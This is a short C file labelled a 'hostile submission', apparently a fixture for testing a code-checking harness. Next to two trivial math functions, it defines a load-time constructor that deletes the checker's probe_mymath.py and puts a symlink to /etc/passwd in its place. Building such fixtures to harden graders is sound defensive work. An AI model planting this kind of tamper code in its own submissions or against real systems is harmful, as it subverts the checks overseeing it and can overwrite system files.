/* Hostile submission: the reference library, plus a constructor that plants a link. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

/* Runs whenever the library is loaded: before the checker's next step, the checker's own
   probe_mymath.py becomes a link to /etc/passwd. A harness that wrote through it would fail. */
__attribute__((constructor)) static void plant(void)
{
    struct stat st;
    if (lstat("/work/probe_mymath.py", &st) == 0 && S_ISREG(st.st_mode)) {
        unlink("/work/probe_mymath.py");
        if (symlink("/etc/passwd", "/work/probe_mymath.py") == 0)
            printf("planted /work/probe_mymath.py -> /etc/passwd\n");
    }
}

int add(int a, int b)
{
    return a + b;
}

double scale(const double *xs, int n, double factor)
{
    double sum = 0.0;
    for (int i = 0; i < n; i++)
        sum += xs[i] * factor;
    return sum;
}
